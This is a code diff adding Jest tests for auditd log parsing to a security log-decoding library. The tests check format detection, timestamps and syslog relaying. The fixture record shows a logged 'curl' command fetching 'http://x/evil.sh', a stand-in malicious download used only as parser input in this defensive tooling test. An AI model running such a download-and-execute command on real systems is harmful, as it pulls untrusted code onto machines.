@@ -1,6 +1,8 @@
 import { describe, expect, it } from '@jest/globals';
+import { decodeAudit } from './audit.js';
 import { decodeCef } from './cef.js';
-import { decodeContext } from './index.js';
+import { decodeAuto, decodeContext } from './index.js';
+import { decodeRfc3164 } from './syslog.js';
 import { decodeJson } from './json.js';
 import { decodeKv } from './kv.js';
 import { decodeLeef } from './leef.js';
@@ -226,6 +228,29 @@ describe('web server logs', () => {
       '1.2.3.4',
       'error',
       'core',
+    ]);
+  });
+});
+
+describe('auditd', () => {
+  const rec = 'type=EXECVE msg=audit(1604994496.155:92733): argc=3 a0="curl" a1="-s" a2="http://x/evil.sh"';
+
+  it('reads bare records (auto-detected) with their own time and auditd field names', () => {
+    const d = decodeAuto(rec, ctx());
+    expect(d.format).toBe('auditd');
+    expect(iso(d.time)).toBe('2020-11-10T07:48:16.155Z');
+    expect([d.product, d.service]).toEqual(['linux', 'auditd']);
+    expect(d.fields).toMatchObject({ type: 'EXECVE', a0: 'curl', a2: 'http://x/evil.sh' });
+    expect(decodeAudit('type=X nothing', ctx()).error).toBe('auditd_bad_record');
+  });
+
+  it('reads records relayed by audispd over syslog, keeping the syslog host', () => {
+    const d = decodeRfc3164(`<14>Nov 10 14:48:17 srv1 audispd: ${rec}`, ctx());
+    expect([d.host, d.service, d.fields?.a0, iso(d.time)]).toEqual([
+      'srv1',
+      'auditd',
+      'curl',
+      '2020-11-10T07:48:16.155Z',
     ]);
   });
 });
